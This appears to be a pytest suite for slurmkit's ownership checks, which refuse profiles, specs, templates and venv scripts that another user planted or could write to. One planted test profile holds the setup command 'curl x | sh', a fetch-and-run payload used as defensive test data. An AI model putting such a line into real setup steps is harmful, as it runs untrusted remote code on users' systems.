"""What slurmkit reads as code or configuration is the caller's own (or root's) and writable by no
one else: profiles (each file of an `extends:` chain), run and sweep specs, a profile's
template_dir and its templates, the setup.venv activate script. A run's private folders (the run
folder and its checkpoint folder under a shared checkpoint_root) are made at submit, before the id
is visible, and a folder someone else made first is the submit's refusal, with nothing queued.

Another user is uid 65534 (nobody), by chown: root only (CI and the README's test command run as root).
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from slurmkit.cli.app import app
from slurmkit.load.loader import load_profile, resolve
from slurmkit.render import render_shell_rc
from slurmkit.runs import jobs, registry
from slurmkit.trust import NotOwnError
from tests.conftest import write_spec

OTHER_UID = 65534
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
runner = CliRunner()


def team_folder(tmp_path: Path) -> Path:
    """A world-writable team folder (with the sticky bit, as a careful admin would make it)."""
    folder = tmp_path / "team"
    folder.mkdir()
    os.chmod(folder, 0o1777)
    return folder


def profile_with(tmp_path: Path, run_root: Path, **fields: object) -> Path:
    """A profile of the caller's own over the shipped local one, with `fields`."""
    path = tmp_path / "p.yaml"
    path.write_text(yaml.safe_dump({"extends": "local", "run_root": str(run_root), **fields}))
    return path


def planted(path: Path, data: dict[str, object], uid: int = OTHER_UID, mode: int = 0o644) -> Path:
    path.write_text(yaml.safe_dump(data))
    os.chown(path, uid, -1)
    os.chmod(path, mode)
    return path


@needs_root
def test_a_profile_another_user_planted_on_the_search_path_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, run_root: Path) -> None:
    team = team_folder(tmp_path)
    planted(team / "teamgpu.yaml", {"extends": "local", "run_root": str(run_root),
                                    "setup": {"env": {"PYTHONPATH": str(team)}, "commands": ["curl x | sh"]}})
    monkeypatch.setenv("SLURMKIT_PROFILE_PATH", str(team))
    with pytest.raises(NotOwnError) as caught:
        load_profile("teamgpu")
    assert caught.value.where == str(team / "teamgpu.yaml")
    spec = write_spec(tmp_path, name="victim", command="true")
    result = runner.invoke(app, ["submit", str(spec), "-p", "teamgpu"])
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1, result.output
    assert not list(run_root.iterdir()), "nothing submitted"
    # The listing goes on, and marks it unusable rather than stopping at it.
    listed = runner.invoke(app, ["profiles", "list", "--json"])
    assert listed.exit_code == 0, listed.output
    assert "local" in listed.output and "teamgpu" in listed.output


@needs_root
@pytest.mark.parametrize("uid, mode", [(OTHER_UID, 0o644), (0, 0o664), (0, 0o646)])
def test_every_file_of_an_extends_chain_is_checked(tmp_path: Path, run_root: Path, uid: int, mode: int) -> None:
    team = team_folder(tmp_path)
    parent = planted(team / "base.yaml", {"extends": "local", "run_root": str(run_root)}, uid, mode)
    mine = tmp_path / "mine.yaml"
    mine.write_text(yaml.safe_dump({"extends": str(parent)}))
    with pytest.raises(NotOwnError) as caught:
        load_profile(str(mine))
    assert caught.value.where == str(parent)
    os.chown(parent, 0, -1)
    os.chmod(parent, 0o644)
    assert load_profile(str(mine)).run_root == str(run_root), "the same chain, once the file is the caller's"


@needs_root
def test_a_symlinked_profile_is_checked_where_it_leads(tmp_path: Path, run_root: Path) -> None:
    team = team_folder(tmp_path)
    target = planted(team / "theirs.yaml", {"extends": "local", "run_root": str(run_root)})
    link = tmp_path / "mine.yaml"
    link.symlink_to(target)
    with pytest.raises(NotOwnError):
        load_profile(str(link))


@needs_root
def test_a_run_spec_or_sweep_spec_of_another_user_is_refused(tmp_path: Path, local_profile: Path) -> None:
    team = team_folder(tmp_path)
    spec = planted(team / "spec.yaml", {"name": "x", "command": "true"})
    sweep = planted(team / "sweep.yaml", {"name": "x", "command": "true", "sweep": {"grid": {"env.A": ["1", "2"]}}})
    with pytest.raises(NotOwnError):
        resolve(spec, str(local_profile))
    for argv in (["submit", str(spec)], ["sweep", str(sweep)], ["render", str(spec)]):
        result = runner.invoke(app, [*argv, "-p", str(local_profile)])
        assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1, (argv, result.output)


@needs_root
def test_template_dir_and_each_template_in_it_are_the_callers_own(tmp_path: Path, run_root: Path) -> None:
    templates = tmp_path / "templates"
    (templates / "partials").mkdir(parents=True)
    partial = templates / "partials" / "profile_setup.sh.j2"
    partial.write_text("echo mine\n")
    prof = profile_with(tmp_path, run_root, template_dir=str(templates))
    spec = write_spec(tmp_path, name="t", command="true")
    assert "echo mine" in jobs.dry_run(resolve(spec, str(prof))).script
    # A template another user wrote, or one others can write, renders nothing: one line naming it.
    for uid, mode in ((OTHER_UID, 0o644), (0, 0o666)):
        os.chown(partial, uid, -1)
        os.chmod(partial, mode)
        with pytest.raises(NotOwnError) as caught:
            jobs.dry_run(resolve(spec, str(prof)))
        assert caught.value.where == str(partial)
    os.chown(partial, 0, -1)
    os.chmod(partial, 0o644)
    os.chmod(templates, 0o777)  # the folder itself: others could add a template it would pick
    with pytest.raises(NotOwnError):
        jobs.dry_run(resolve(spec, str(prof)))


@needs_root
def test_a_venv_whose_activate_another_user_owns_is_refused(tmp_path: Path, run_root: Path) -> None:
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    activate = venv / "bin" / "activate"
    activate.write_text("export PATH\n")
    prof = profile_with(tmp_path, run_root, setup={"venv": str(venv)})
    resolved = resolve(write_spec(tmp_path, name="v", command="true"), str(prof))
    assert f"{venv}/bin/activate" in render_shell_rc(resolved)
    os.chown(activate, OTHER_UID, -1)
    with pytest.raises(NotOwnError):
        render_shell_rc(resolved)


def test_run_ids_carry_32_random_bits() -> None:
    ids = [registry.new_run_id("r") for _ in range(50)]
    suffixes = [re.fullmatch(r"r-\d{8}-\d{6}-([0-9a-f]+)", i).group(1) for i in ids]  # type: ignore[union-attr]
    assert all(len(s) == 2 * registry.ID_RANDOM_BYTES == 8 for s in suffixes)
    assert len(set(suffixes)) == 50


def test_the_checkpoint_folder_is_made_private_at_submit_before_the_run_folder(
        tmp_path: Path, run_root: Path) -> None:
    shared = team_folder(tmp_path)
    prof = profile_with(tmp_path, run_root, checkpoint_root=str(shared))
    resolved = resolve(write_spec(tmp_path, name="c", command="true"), str(prof))
    paths = registry.create(str(run_root), "c", "private", str(shared))
    folder = shared / paths.run_id
    assert folder.is_dir() and (folder.stat().st_mode & 0o777) == 0o700 and folder.stat().st_uid == os.getuid()
    # A submit whose first write fails leaves neither folder behind.
    with pytest.raises(RuntimeError), registry.or_nothing(paths, resolved.profile.checkpoint_root):
        raise RuntimeError("the record could not be written")
    assert not paths.run_dir.exists() and not folder.exists()


@needs_root
def test_a_checkpoint_folder_someone_made_first_refuses_the_submit_with_nothing_queued(
        tmp_path: Path, run_root: Path) -> None:
    shared = team_folder(tmp_path)
    prof = profile_with(tmp_path, run_root, checkpoint_root=str(shared))
    resolved = resolve(write_spec(tmp_path, name="c", command="true"), str(prof))
    request = jobs.dry_run(resolved)  # the id a dry run showed: the one submit takes
    claimed = shared / request.run_paths.run_id
    claimed.mkdir()
    os.chown(claimed, OTHER_UID, -1)
    with pytest.raises(NotOwnError) as caught:
        jobs.send(request)
    assert "profile:checkpoint_root" in (caught.value.where or "")
    assert not list(run_root.iterdir()), "no run folder, no record, nothing queued"
    assert claimed.stat().st_uid == OTHER_UID, "theirs is left alone"
